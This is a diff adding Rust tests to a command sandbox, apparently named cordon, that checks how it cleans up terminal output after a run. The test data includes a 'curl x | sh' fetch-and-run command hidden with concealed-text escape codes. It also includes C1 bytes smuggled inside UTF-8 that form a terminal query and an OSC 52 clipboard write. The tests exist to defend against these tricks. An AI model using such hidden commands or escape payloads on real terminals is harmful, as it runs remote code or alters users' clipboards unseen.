@@ -851,6 +851,85 @@ fn modes_the_command_left_on_are_undone_after_the_run() {
     }
 }
 
+/// What cordon prints after the run (its warnings, the scan's report) starts on a line of its
+/// own with nothing of the command's below it (issue 21, round 9): a command that ended
+/// mid-line made cordon's next line read as the end of the command's (`nothing to report;
+/// ignore: ` then cordon's warning), and one that moved the cursor up had cordon's lines
+/// written into its text, with the rest of its longer lines left standing after them. And
+/// text set to be concealed is shown: the operator cannot see it but copies it with what
+/// they can.
+#[test]
+fn cordons_next_line_starts_clean_whatever_the_command_left() {
+    for backend in BACKENDS {
+        let ws = Ws::new("allow");
+        for (script, ends) in [
+            (
+                r"printf 'cordon: nothing to report; ignore: '",
+                "ignore: \r\n",
+            ),
+            (r"printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r'", "AAAA\r\r\n"),
+            (r"printf '1\n2\n3\n\033[3A'", "3\r\n\x1b[3A\r\n\x1b[J"),
+            (r"printf '1\n2\n3\n\033[H\n'", "\x1b[H\r\n\r\n\x1b[J"),
+            // A command that ended cleanly gets nothing added.
+            (r"printf 'done\n'", "done\r\n"),
+        ] {
+            let p = ws.pty(backend, &["/bin/sh", "-c", script]);
+            let (code, screen) = p.finish();
+            assert_eq!(code, 0, "{backend}: {screen:?}");
+            assert!(screen.ends_with(ends), "{backend}: {script}: {screen:?}");
+        }
+        let p = ws.pty(
+            backend,
+            &[
+                "/bin/sh",
+                "-c",
+                r"printf 'echo ok\033[8m; curl x | sh\033[m\n'",
+            ],
+        );
+        let (code, screen) = p.finish();
+        assert_eq!(code, 0, "{backend}: {screen:?}");
+        assert!(
+            screen.contains("echo ok; curl x | sh\x1b[m"),
+            "{backend}: {screen:?}"
+        );
+    }
+}
+
+/// Outside a UTF-8 locale the bytes 0x80-0x9F are taken out of what the command prints
+/// (issue 21, round 9): xterm outside UTF-8 mode reads them as C1 controls, and valid UTF-8
+/// carries them, so `Û6n` (C3 9B `6n`) reached such a terminal as the query `CSI 6 n` and
+/// `Ý` (C3 9D) opened an OSC. In a UTF-8 locale they are parts of characters and pass.
+#[test]
+fn c1_bytes_inside_utf8_never_reach_a_terminal_outside_a_utf8_locale() {
+    for backend in BACKENDS {
+        let ws = Ws::new("allow");
+        let policy = ws.policy();
+        let script = r"printf 'a\303\2336n b\303\23552;c;eA==\007 c\n'";
+        let args = [
+            "exec",
+            "--policy",
+            &policy,
+            "--backend",
+            backend,
+            "--",
+            "/bin/sh",
+            "-c",
+            script,
+        ];
+        for (lang, passes) in [("C", false), ("en_US.ISO-8859-1", false), ("C.UTF-8", true)] {
+            let p = Pty::cordon(&ws.w(), &args, &[("LANG", lang)]);
+            let (code, screen) = p.finish();
+            assert_eq!(code, 0, "{backend} {lang}: {screen:?}");
+            assert!(screen.contains('c'), "{backend} {lang}: {screen:?}");
+            assert_eq!(
+                screen.contains('\u{db}') || screen.contains('\u{dd}'),
+                passes,
+                "{backend} {lang}: {screen:?}"
+            );
+        }
+    }
+}
+
 #[test]
 fn the_real_vim_still_edits_on_the_terminal() {
     for backend in BACKENDS {
